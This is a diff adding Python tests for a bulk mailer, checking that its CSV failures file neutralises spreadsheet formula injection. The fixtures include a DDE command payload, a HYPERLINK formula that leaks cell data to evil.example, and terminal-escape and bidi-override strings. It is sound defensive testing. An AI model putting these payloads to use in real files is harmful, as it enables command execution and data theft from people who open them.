@@ -799,6 +799,61 @@ class Files(Bulk):
         self.assertEqual(self.failures(failed)[0], first)
         self.assertFalse(os.path.exists(failed + '.new'))
 
+    # mailboxes that a spreadsheet would compute, and such as begin with ' already
+    FORMULAS = ["=cmd|'/C'!A0@example.org", '+tag@example.org', '-x@example.org', "'=x@example.org",
+                "''-x@example.org", "'bob@example.org", 'bob@example.org']
+
+    def test_failures_compute_nothing_in_a_spreadsheet(self):
+        bad = ["=cmd|' /C calc'!A0", '@SUM(A1)', '"\'=1"', '＝1+1', 'a\x1b[2J@example.org',
+               'b\u202e@example.org', b'c\xff@example.org'.decode(errors='surrogateescape')]
+        people = self.path('p.csv', 'email,name\n'.encode() + b''.join(
+            f'{a},N\n'.encode(errors='surrogateescape') for a in self.FORMULAS + bad))
+        failed, journal = self.path('f.csv'), self.path('j')
+        said = (b'550-=HYPERLINK("http://evil.example/?"&A1,"click")\r\n'
+                b'550 \x1b]0;owned\x07 \xff')
+        with Peer(refusing(lambda line: True, said)) as peer:
+            args = ['bulk', '--via', f'smtp://127.0.0.1:{peer.port}', '--list', people, *BASIC,
+                    '--failures', failed, '--journal', journal]
+            run(*args)
+            with open(failed, 'rb') as f:
+                octets = f.read()
+            run(*args)
+        self.assertNotRegex(octets, b'[\0-\x09\x0b\x0c\x0e-\x1f]')
+        octets.decode()
+        rows = self.failures(failed)
+        for row in rows:
+            for cell in row.values():
+                self.assertNotRegex(cell, '^[-=+@\t\r\n＝＋－＠]')
+        told = {int(r['row']): r for r in rows}
+        self.assertEqual([told[i + 1]['address'] for i in range(len(self.FORMULAS))],
+                         ["'" + a if a[:2] not in ("'b", 'bo') else a for a in self.FORMULAS])
+        n = len(self.FORMULAS)
+        self.assertEqual([told[n + i]['address'] for i in (1, 2, 5, 6, 7)],
+                         ["'=cmd|' /C calc'!A0", "'@SUM(A1)", '? a?[2J@example.org',
+                          '? b?@example.org', ''])  # a row that is no UTF-8 is not read
+        self.assertEqual(told[1]['outcome'], 'rejected')
+        self.assertIn('\'=HYPERLINK("http://evil.example/?"&A1,"click")', told[1]['reason'])
+        with open(failed, 'rb') as f:  # what was rejected is copied by a run that continues
+            self.assertEqual(sorted(f.read().split(b'\r\n')), sorted(octets.split(b'\r\n')))
+
+    def test_failures_are_a_list_with_the_same_addresses(self):
+        people = self.path('p.csv', 'email,name\n' + ''.join(f'{a},N\n' for a in self.FORMULAS) +
+                           'a\x1bb@example.org,N\n')
+        failed = self.path('f.csv')
+        letter = ['-f', 'ann@example.com', '-s', 'again', '--text', 'x', '--to-field', 'address']
+        with Peer(refusing(lambda line: True)) as peer:
+            run('bulk', '--via', f'smtp://127.0.0.1:{peer.port}', '--list', people, *BASIC, '--retry',
+                'no', '--failures', failed)
+        with open(failed, encoding='utf-8', newline='') as f:
+            lines = f.read().split('\r\n')
+        joined = self.path('joined.csv', '\r\n'.join(
+            [lines[0] + ',name', *(line + ',N' for line in lines[1:-1]), '']))
+        for path in failed, joined:
+            with self.subTest(path), CountingSink(self.folder.name) as sink:
+                got = run('bulk', '--via', sink.url, '--list', path, *letter, '--json')
+                self.assertEqual(sink.accepted(), {a: 1 for a in self.FORMULAS}, got)
+                self.assertEqual((got.json['accepted'], got.json['bad']), (len(self.FORMULAS), 1))
+
     def test_failures_file_of_somebody_else_is_left_alone(self):
         people, journal, other = self.list(3), self.path('j'), self.path('notes.csv', 'a,b\n1,2\n')
         with CountingSink(self.folder.name) as sink:
